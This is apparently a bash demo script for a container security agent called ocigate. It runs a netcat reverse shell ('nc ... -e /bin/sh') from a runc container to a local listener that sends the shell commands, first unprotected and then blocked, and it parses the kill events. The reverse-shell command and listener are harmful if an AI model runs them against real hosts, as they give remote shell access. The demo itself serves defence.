#!/usr/bin/env bash
# The ocigate demo: a reverse shell from a real runc container, first
# without ocigate (the attacker gets a shell), then with the agent and the
# createRuntime hook on the embedded default profile (the shell is killed
# before it runs, and the event says so).
set -euo pipefail
cd "$(dirname "$0")/.."
. scripts/lib.sh

[ "$(id -u)" = 0 ] || { echo "demo: run as root (runc, BPF)" >&2; exit 1; }
work=$(mktemp -d /tmp/ocigate-demo.XXXXXX)
LISTENER=
cleanup() {
	[ -n "$LISTENER" ] && kill "$LISTENER" 2>/dev/null
	stop_agent
	runc delete -f ocigate-demo-open >/dev/null 2>&1 || true
	runc delete -f ocigate-demo-guarded >/dev/null 2>&1 || true
	rmdir /sys/fs/cgroup/unified/ocigate-demo 2>/dev/null || true
	rm -rf "$work"
}
trap cleanup EXIT

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

mk_rootfs "$work/rootfs"
port=$((20000 + RANDOM % 20000))

# attacker PORT OUT: a listener on 127.0.0.1 that types commands into
# whatever connects and records what comes back.
attacker() {
	(sleep 1; echo 'echo "SHELL: uid=$(id -u) host=$(hostname)"'; sleep 2) |
		timeout 8 busybox nc -l -p "$1" >"$2" 2>/dev/null &
	LISTENER=$!
	sleep 0.3
}

say "1. Without ocigate: the container runs 'nc 127.0.0.1 $port -e /bin/sh'"
attacker "$port" "$work/open.txt"
mk_bundle "$work/open" "$work/rootfs" ocigate-demo-open no "" nc 127.0.0.1 "$port" -e /bin/sh
run_container "$work/open" ocigate-demo-open 10 || true
wait "$LISTENER" 2>/dev/null || true
LISTENER=
echo "attacker received: $(cat "$work/open.txt")"
grep -q "SHELL: uid=0" "$work/open.txt" || { echo "demo: expected the unprotected shell to answer" >&2; exit 1; }

say "2. Start ocigate-agentd (embedded default profile: reverse-shell)"
PROFILES_DIR=$PWD/scripts/demo-profiles start_agent "$work"
"$OCIGATE_BIN/ocigate-agentd" status --socket "$work/agentd.sock" | sed -n '1,15p'

say "3. With ocigate: the same container, hooked at createRuntime"
attacker "$port" "$work/guarded.txt"
mk_bundle "$work/guarded" "$work/rootfs" ocigate-demo-guarded yes "$work/agentd.sock" nc 127.0.0.1 "$port" -e /bin/sh
rc=0
run_container "$work/guarded" ocigate-demo-guarded 10 || rc=$?
wait "$LISTENER" 2>/dev/null || true
LISTENER=
echo "container exit status: $rc"
echo "attacker received: '$(cat "$work/guarded.txt")'"
if grep -q "SHELL:" "$work/guarded.txt"; then
	echo "demo: FAILED: the shell answered under ocigate" >&2
	exit 1
fi

say "4. The container's first program connects to the stand-in attacker 127.0.0.2:4444 (profile demo-attacker)"
ANNOTATIONS='{"ocigate.io/profile":"demo-attacker"}' \
	mk_bundle "$work/first" "$work/rootfs" ocigate-demo-guarded yes "$work/agentd.sock" nc -w 2 127.0.0.2 4444
run_container "$work/first" ocigate-demo-guarded 10 || true

say "5. Events (Tetragon process_kprobe JSON)"
sleep 0.5
jq -c 'select(.process_kprobe) | {time, function: .process_kprobe.function_name, action: .process_kprobe.action,
	binary: .process_kprobe.process.binary, pid: .process_kprobe.process.pid.value,
	args: .process_kprobe.args, container: .ocigate.container_id, verdict: .ocigate.verdict}' "$work/events.jsonl"
# The shell's exec: killed before its first instruction (fallback), or
# refused with EPERM in the caller (BPF LSM, fmod_ret).
verdict=$(jq -r 'select(.process_kprobe.function_name == "security_bprm_check"
	and .ocigate.container_id == "ocigate-demo-guarded") | .ocigate.verdict' "$work/events.jsonl" | head -n 1)
case $verdict in
killed) outcome="the shell was killed before its first instruction" filter=05 what="Sigkill actions" ;;
denied) outcome="the shell's exec was refused (EPERM)" filter=02 what="tcp_connect events" ;;
*) echo "demo: no refused exec of the shell in the events (verdict '$verdict')" >&2; exit 1 ;;
esac

say "6. A seed filter (jq/$filter: $what), unchanged"
jq -c -f "internal/agent/testdata/jq/$filter.jq" "$work/events.jsonl" | head -3
say "Reverse shell stopped: the attacker got nothing; $outcome."
